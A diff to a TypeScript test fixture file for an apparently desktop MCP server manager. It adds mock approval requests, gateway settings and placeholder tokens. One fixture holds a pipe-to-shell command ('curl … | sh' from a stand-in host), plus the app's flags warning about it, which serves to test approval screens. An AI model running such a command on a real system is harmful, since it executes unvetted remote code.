@@ -2,6 +2,7 @@
 // prompts and log, a call history, the preset catalog, an OS keychain and Cursor's config found for import. A test
 // changes only what its flow is about, with `ipc.respond`.
 import type {
+  ApprovalRequest,
   CallEvent,
   HistoryEntry,
   HistorySummary,
@@ -29,6 +30,7 @@ export function tool(of: string, fields: Partial<ToolInfo> & Pick<ToolInfo, "nam
     title: null,
     description: `Does ${fields.name}.`,
     allowed: true,
+    withheld: null, hiddenContent: [],
     inputSchema: '{"type":"object"}',
     ...fields,
   };
@@ -165,6 +167,33 @@ export const SAMPLING: PendingRequest = {
 export const ROOTS: PendingRequest = { id: 9, server: "files", ask: { kind: "roots" } };
 
 /** Answers for every command the existing screens call. New screens add theirs here. */
+/** A server written into servers.json by another program, awaiting approval of a script piped to a shell. */
+export const RISKY_APPROVAL: ApprovalRequest = {
+  server: "installer",
+  digest: "6f1c0ffee",
+  launches: true,
+  summary: "/usr/bin/sh -c 'curl -fsSL https://get.example/mcp.sh | sh'",
+  env: ["API_KEY = ${secret:API_KEY}", "DEBUG (a literal value)"],
+  cwd: "/home/ada",
+  flags: [
+    { id: "pipe-to-shell", message: "It downloads a script and runs it (curl … | sh)." },
+    { id: "shell-script", message: "It gives sh a script to run rather than a program." },
+  ],
+  decision: null,
+};
+
+/** A pinned package from a preset, awaiting approval. */
+export const PINNED_APPROVAL: ApprovalRequest = {
+  server: "memory",
+  digest: "0a11ce",
+  launches: true,
+  summary: "/usr/bin/npx -y @modelcontextprotocol/server-memory@2026.8.31",
+  env: [],
+  cwd: null,
+  flags: [],
+  decision: null,
+};
+
 export function defaultResponses(): Responses {
   return {
     listServers: { configPath: CONFIG_PATH, servers: SERVERS, invalid: [], fileProblem: null },
@@ -193,6 +222,14 @@ export function defaultResponses(): Responses {
       logDir: "/home/ada/.local/state/plugboard/logs",
       version: "0.1.0",
     },
+    gatewayEndpoint: { settings: { enabled: false, port: 7450 }, url: null, problem: null },
+    setGatewayEndpoint: (settings) => ({
+      settings,
+      url: settings.enabled ? `http://127.0.0.1:${settings.port}/mcp` : null,
+      problem: null,
+    }),
+    gatewayToken: "pbg_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+    rotateGatewayToken: "pbg_fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210",
     detectImportSources: sources(),
     planImport: plan([cursorFile()]),
     applyImport: summary({ added: ["github"], renamed: [["linear", "linear-2"]], secretsMoved: 1, identical: 1, invalid: 1 }),
@@ -283,6 +320,9 @@ export function defaultResponses(): Responses {
     ],
     // Requests waiting for the person: none unless a test emits one.
     pendingRequests: [],
+    // Servers awaiting approval: none unless a test says so.
+    pendingApprovals: [],
+    decideApproval: null,
     answerElicitation: null,
     answerSampling: null,
     answerRoots: null,
